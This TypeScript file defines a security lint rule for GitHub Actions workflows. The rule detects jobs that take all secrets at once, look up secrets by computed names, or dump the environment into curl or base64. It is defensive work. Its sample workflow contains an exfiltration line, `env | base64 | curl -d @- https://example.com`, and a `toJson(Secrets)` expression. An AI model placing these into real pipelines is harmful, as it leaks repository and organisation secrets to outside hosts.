import { type Gap, gap } from '../../core/facts.ts';
import { expressionsIn, type PlacedExpression } from '../../workflow/expressions-in.ts';
import { locate } from '../../workflow/locate.ts';
import type { ActionDefinition, Scalar, Step, Workflow } from '../../workflow/model.ts';
import { spanInFile, spanMapper } from '../../workflow/span-in-file.ts';
import { stepsOfAction, stepsOfJob } from '../../workflow/walk.ts';
import { defineRule } from '../define-rule.ts';
import { environmentDumps } from '../support/environment-dump.ts';
import { nameOfUses } from '../support/name-of-uses.ts';
import { wholeSecretsIn } from '../support/whole-secrets.ts';

export default defineRule({
  meta: {
    id: 'secret/bulk-exposure',
    title: 'A job names each secret that it uses, and never takes or sends out all of them',
    severity: 'high',
    lifecycle: 'stable',
    since: '0.1.0',
    stages: ['merge', 'deploy', 'posture'],
    presets: { recommended: 'deny', strict: 'deny' },
    unknown: { merge: 'deny', deploy: 'deny', posture: 'warn' },
    controls: [
      { framework: 'OWASP-NHI', id: 'NHI2:2025' },
      { framework: 'NIST-CSF', id: 'PR.AA-01' },
      { framework: 'NIST-CSF', id: 'PR.DS-01' },
      { framework: 'NIST-CSF', id: 'PR.PS-06' },
      { framework: 'NIST-800-207', id: 'T2' },
      { framework: 'NIST-800-207', id: 'T6' },
      { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
      { framework: 'SSDF', id: 'PS.1.1' },
      { framework: 'SSDF', id: 'PW.7' },
    ],
    rationale:
      'The runner receives exactly the secrets that a job names; whoever takes all of them, or one by a computed name, makes it receive every ' +
      'secret of the repository, the organisation and the environment, for any program of the job to read. The worm Shai-Hulud (September ' +
      '2025) planted a workflow that sent `toJSON(secrets)` to a collector; its second wave wrote all secrets to actionsSecrets.json. A ' +
      'program that lists the environment into `curl` or `base64` does the same with what the job has, past the mask of the log.',
    remediation:
      'Name each secret (`secrets.NAME`) in the `env` of the step that needs it; where a name depends on something, write one step or job for each.',
    messages: {
      all: '`{form}` hands over every secret of the repository, its organisation and its environment in {place}; name each one: `secrets.NAME`',
      computed:
        '`{form}` takes a secret whose name only the run knows in {place}, so that the runner receives all of them; name each one: `secrets.NAME`',
      dump: '`{form}` lists the whole environment with its secrets into `{sink}` in {place}; send only what is meant, by name',
    },
    examples: [
      {
        title: 'All secrets in one variable',
        files: {
          '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          ALL: \${{ toJson(Secrets) }}
          ONE: \${{ secrets[format('KEY_{0}', matrix.stage)] }}
      - run: env | base64 | curl -d @- https://example.com
`,
        },
        expect: [
          { message: 'all', path: '.github/workflows/ci.yml', line: 8 },
          { message: 'computed', path: '.github/workflows/ci.yml', line: 9 },
          { message: 'dump', path: '.github/workflows/ci.yml', line: 10 },
        ],
      },
      {
        title: 'Secrets by name, and a listing for the log',
        files: {
          '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          KEY: \${{ secrets.DEPLOY_KEY }}
          OTHER: \${{ secrets['OTHER_KEY'] }}
      - run: env | sort
`,
        },
        expect: [],
      },
    ],
    options: {},
    key: ['form', 'place'],
  },
  needs: ['workflows', 'actions'],
  evaluate({ workflows, actions }) {
    return [...workflows.items, ...actions.items].flatMap((definition) => [
      ...exposures(definition),
      ...unread(definition),
      ...dumps(definition),
    ]);
  },
});

function exposures(definition: Workflow | ActionDefinition) {
  const { file } = definition;
  const mappers = new Map<Scalar, ReturnType<typeof spanMapper>>();
  return expressionsIn(definition).flatMap((placed) =>
    wholeSecretsIn(placed.embedded.expression).map(({ how, form, span }) => {
      const mapper = mappers.get(placed.scalar) ?? spanMapper(file.text, placed.scalar);
      mappers.set(placed.scalar, mapper);
      return {
        kind: 'violation' as const,
        message: how,
        data: { form, place: placeOf(placed), sink: '' },
        location: locate(file, mapper(span)),
        // One secret of many is what the author means; that the runner receives them all is the platform's doing.
        ...(how === 'computed' ? { severity: 'medium' as const } : {}),
      };
    }),
  );
}

/** Should GitHub read what cannot be read here, it may hand over all secrets. One gap for a file. */
function unread(definition: Workflow | ActionDefinition): readonly Gap[] {
  const { file } = definition;
  for (const placed of expressionsIn(definition)) {
    const { expression, inValue, span } = placed.embedded;
    if (expression.kind !== 'error' || !/secrets/i.test(placed.scalar.value.slice(inValue.start, inValue.end))) continue;
    const why = `it names secrets and cannot be read: ${expression.message}`;
    const remedy = 'Put the expression right, so that it can be judged.';
    return [gap({ item: `an expression in ${placeOf(placed)}`, cause: 'invalid', why, remedy, location: locate(file, span) })];
  }
  return [];
}

function placeOf({ job, step }: Pick<PlacedExpression, 'job' | 'step'>): string {
  const name = step === undefined ? undefined : nameOfStep(step);
  if (job === undefined) return name === undefined ? 'the whole file' : `step ${name}`;
  return name === undefined ? `job \`${job.id.value}\`` : `job \`${job.id.value}\`, step ${name}`;
}

/** An identifier that survives moves of the step; text of the file, so short and without expressions. */
function nameOfStep(step: Step): string | undefined {
  const name = step.id?.value ?? step.name?.value ?? (step.kind === 'uses' ? nameOfUses(step.uses) : undefined);
  return name === undefined || name.includes('${{') ? undefined : `\`${name.replaceAll('`', "'").slice(0, 60)}\``;
}

function dumps(definition: Workflow | ActionDefinition) {
  const groups =
    definition.kind === 'workflow'
      ? definition.jobs.map((job) => ({ job, steps: stepsOfJob(job) }))
      : [{ job: undefined, steps: stepsOfAction(definition) }];
  return groups.flatMap(({ job, steps }) =>
    environmentDumps(steps).map(({ step, script, dump, sink, span }) => ({
      kind: 'violation' as const,
      message: 'dump' as const,
      data: { form: dump, place: placeOf(job === undefined ? { step } : { job, step }), sink },
      location: locate(definition.file, spanInFile(definition.file, script, span)),
      confidence: 'medium' as const,
    })),
  );
}
